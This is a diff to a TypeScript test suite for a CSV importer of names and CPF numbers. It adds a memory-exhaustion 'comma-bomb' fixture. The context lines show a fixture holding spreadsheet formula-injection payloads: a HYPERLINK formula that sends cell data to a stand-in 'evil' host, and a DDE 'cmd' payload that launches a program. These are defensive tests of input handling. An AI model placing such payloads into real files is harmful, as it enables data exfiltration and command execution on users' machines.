@@ -46,6 +46,16 @@ const corpus: Record<string, { bytes: Buffer | string; expect: (job: JobRow, row
   'formulas.csv': { bytes: `Nome;CPF;Obs\n=HYPERLINK("http://evil/?"&A1);${CPF};@SUM(1+1)\n+cmd|' /C calc'!A0;${CPF};-1+1\n`, expect: (j) => expect(j.totalRows).toBe(2) },
   'unbalanced-quotes.csv': { bytes: `Nome;CPF\n"Ana;${CPF}\nBia;111.444.777-35\n`, expect: (j) => expect(['ready', 'failed']).toContain(j.status) },
   'no-identifier.csv': { bytes: 'a;b\n1;2\n', expect: (j) => expect(j.importProblem).toContain('nenhuma coluna de CPF') },
+  // Issue #14: one 8 MiB line of commas must not become eight million fields in memory.
+  'comma-bomb.csv': {
+    bytes: `Nome;CPF\nAna;${CPF}\n${';'.repeat(8 * 1024 * 1024)}\nBia;111.444.777-35\n`,
+    expect: (j, rows) => {
+      expect(j.totalRows).toBe(3)
+      expect(rows[1]?.fields.length).toBe(5000)
+      expect(rows[1]?.problem).toContain('columns_cut:5000')
+      expect(rows[2]?.fields).toEqual(['Bia', '111.444.777-35'])
+    },
+  },
   'invalid-cpfs.csv': {
     bytes: 'Nome;CPF\nAna;123\nBia;111.111.111-11\nCaio;abc\n',
     expect: (j, rows) => {
